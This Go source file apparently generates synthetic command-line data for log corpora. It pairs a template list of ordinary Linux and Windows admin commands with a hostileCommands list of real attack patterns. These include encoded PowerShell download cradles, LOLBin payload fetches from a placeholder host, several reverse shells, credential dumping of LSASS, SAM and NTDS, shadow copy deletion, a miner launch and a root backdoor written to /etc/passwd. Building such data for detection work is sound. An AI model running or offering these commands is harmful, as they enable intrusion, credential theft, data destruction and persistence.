package corpus

// Commands makes up n ordinary command lines of administrators, developers and services, on Linux and Windows.
func Commands(seed uint64, n int) []string { return newMaker(seed).many(n, ordinaryCommands()) }

// HostileCommands makes up n command lines as attacks leave them in a log.
func HostileCommands(seed uint64, n int) []string { return newMaker(seed).many(n, hostileCommands()) }

func ordinaryCommands() []string {
	return []string{
		`ls -la {dir}`, `ls -l`, `cd {dir}`, `cat {dir}.{ext}`, `tail -f {dir}.log`, `tail -n {N} {dir}/{w}.log`, `less {dir}.{ext}`, `vim {dir}.{ext}`,
		`grep -r "{w}" {dir}`, `grep -i {w} {dir}.log | wc -l`, `grep -v "^#" {dir}.conf`, `find {dir} -name "*.{ext}" -mtime +{n}`,
		`find {dir} -type f -size +{n}M -exec ls -lh {} \;`, `find . -name {w}.{ext} -print0 | xargs -0 grep {w}`, `du -sh {dir}/*`, `df -h`, `free -m`, `uptime`,
		`ps aux | grep {svc}`, `ps -ef`, `top -b -n 1`, `systemctl status {svc}`, `sudo systemctl restart {svc}`, `systemctl daemon-reload`,
		`journalctl -u {svc} --since "{n} minutes ago"`, `service {svc} reload`, `apt-get update`, `sudo apt-get install -y {pkg}`, `apt list --upgradable`,
		`yum install {pkg}`, `dnf check-update`, `tar czf {dir}.tar.gz {dir}`, `tar -xzvf {w}-{n}.{n}.tar.gz -C {dir}`, `rsync -avz {dir}/ {user}@{host}:{dir}/`,
		`scp {w}.{ext} {user}@{host}:{dir}`, `ssh {user}@{host}`, `ssh -p {port} {user}@{ip} "df -h"`, `ping -c {n} {ip}`, `traceroute {host}`, `dig {host}.example.com`,
		`curl -s http://{host}:{port}/{w}`, `curl -I https://www.example.com/{w}`, `wget https://download.example.org/{w}-{n}.{n}.tar.gz`,
		`git pull`, `git status`, `git commit -m "{w} {w} {w}"`, `git checkout -b {w}-{w}`, `git log --oneline -n {n}`, `git clone git@git.example.com:{w}/{w2}.git`,
		`docker ps -a`, `docker logs -f {w2}`, `docker exec -it {w} bash`, `docker compose up -d {w}`, `docker build -t registry.example.com/{w}:{n}.{n} .`,
		`kubectl get pods -n {w}`, `kubectl logs {w}-{w}-{N} -n {w} --tail={N}`, `kubectl apply -f {w}.yml`, `kubectl describe node {host}`,
		`chown -R {user}:{user} {dir}`, `chmod 644 {dir}.{ext}`, `chmod +x {w}.sh`, `mkdir -p {dir}/{w}`, `mv {dir}.{ext} {dir}.{ext}.old`, `cp -a {dir} {dir}.bak`,
		`ln -s {dir} {dir}-current`, `awk '{print $1}' {dir}.log | sort | uniq -c | sort -rn | head -{n}`, `sed -i 's/{w}/{w}/g' {dir}.conf`,
		`python3 {dir}/{w}.py --{w} {w} --{w}={N}`, `python manage.py {w}`, `pip install -r requirements.txt`, `npm run build`, `npm install {w}-{w}`, `make -j{n} {w}`,
		`java -Xmx{n}g -jar {dir}/{w}.jar --server.port={port}`, `mysql -u {user} -p {w}`, `pg_dump -U {user} {w} > {dir}.sql`, `psql -h {host} -U {user} -c "select count(*) from {w}"`,
		`crontab -l`, `/usr/sbin/CRON -f`, `/usr/sbin/logrotate /etc/logrotate.conf`, `/usr/lib/systemd/systemd-journald`, `sshd: {user} [priv]`, `/bin/sh -c run-parts --report /etc/cron.hourly`,
		`C:\Windows\system32\svchost.exe -k {w} -p -s {W}Svc`, `C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s {W}`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=zh-CN --device-scale-factor=1 --renderer-client-id={n} --mojo-platform-channel-handle={N} /prefetch:{n}`,
		`"{wdir}\{W}.exe"`, `"{wdir}\{W}.exe" /{w} {N}`, `{wdir}\{w}.exe --{w}="{wdir}"`, `C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, `taskhostw.exe`, `C:\Windows\explorer.exe`,
		`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{wdir}\{w} {w}.docx"`, `"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"`,
		`C:\Windows\system32\DllHost.exe /Processid:{{guid}}`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, `C:\Windows\system32\SearchProtocolHost.exe Global\UsGthrFltPipeMssGthrPipe{n}_`,
		`ipconfig /all`, `ping {ip} -n {n}`, `nslookup {host}.corp.example.com`, `net use {W}: \\{host}\{w}`, `gpupdate /force`, `sc query {W}`, `tasklist /svc`, `robocopy {wdir} \\{host}\backup\{w} /MIR /R:{n}`,
		`powershell.exe -NoProfile -File {wdir}\{w}.ps1`, `powershell -Command "Get-Service {W}"`, `Get-ChildItem -Path {wdir} -Recurse | Where-Object Length -gt {N}`,
		`Get-EventLog -LogName Application -Newest {n}`, `Get-ADUser -Identity {user} -Properties *`, `Restart-Service -Name {W}`, `Import-Module {W}`, `Test-Connection {host}`,
		`msiexec.exe /i {wdir}\{W}.msi /qn`, `C:\Windows\System32\schtasks.exe /Query /TN "{W} {W}"`, `reg query "HKLM\SOFTWARE\{W}\{W}" /v {W}`, `xcopy {wdir} D:\{w} /E /I /Y`,
	}
}

func hostileCommands() []string {
	return []string{
		`powershell.exe -nop -w hidden -enc {code}`, `powershell -NonI -W Hidden -NoP -Exec Bypass -Enc {code}`, `cmd.exe /c powershell -e {code}`,
		`powershell.exe "IEX (New-Object Net.WebClient).DownloadString('http://{out}:{port}/{w}.ps1')"`, `powershell -c "$c=nEw-oBjEcT nEt.WeBcLiEnT;IeX $c.DoWnLoAdStRiNg('http://{out}/{w}')"`,
		`cmd /V:ON /C "set x=net&&set y=user&&!x! !y! {user} {w}{n}! /add"`, `cmd.exe /c "p^o^w^e^r^s^h^e^l^l -{w} {code}"`, `certutil.exe -urlcache -split -f http://{out}/{w}.exe C:\Users\Public\{w}.exe`,
		`bitsadmin /transfer {w} /download /priority high http://{out}/{w}.exe %TEMP%\{w}.exe`, `mshta.exe javascript:a=GetObject("script:http://{out}/{w}.sct").Exec();close();`,
		`regsvr32 /s /n /u /i:http://{out}/{w}.sct scrobj.dll`, `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump {N} C:\{w}.dmp full`, `vssadmin delete shadows /all /quiet`,
		`wmic /node:{ip} process call create "cmd.exe /c {w}.bat > \\127.0.0.1\C$\{w}.txt 2>&1"`, `cmd.exe /Q /c {w} 1> \\127.0.0.1\ADMIN$\__{N}.{N} 2>&1`, `reg save HKLM\SAM C:\{w}.hiv`,
		`ntdsutil "ac i ntds" "ifm" "create full c:\{w}" q q`, `nltest /domain_trusts /all_trusts`, `bash -i >& /dev/tcp/{out}/{port} 0>&1`, `sh -i 5<> /dev/tcp/{out}/{port} 0<&5 1>&5 2>&5`,
		`rm -f /tmp/{w};mkfifo /tmp/{w};cat /tmp/{w}|/bin/sh -i 2>&1|nc {out} {port} >/tmp/{w}`, `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("{out}",{port}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")'`,
		`php -r '$s=fsockopen("{out}",{port});exec("sh <&3 >&3 2>&3");'`, `perl -e 'use Socket;$i="{out}";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'`,
		`echo {code} | base64 -d | bash`, `curl -s http://{out}/{w} | bash -s -- {hex}`, `sh -c (curl -fsSL http://{out}/{w}||wget -q -O- http://{out}/{w})|sh`, `nohup /dev/shm/.{w} -o stratum+tcp://{out}:{port} -u {hex} >/dev/null 2>&1 &`,
		`chmod u+s /tmp/.{w}`, `unset HISTFILE;export HISTSIZE=0;`, `echo "{w}::0:0::/root:/bin/sh" >> /etc/passwd`, `find / -perm -4000 -type f 2>/dev/null`,
	}
}
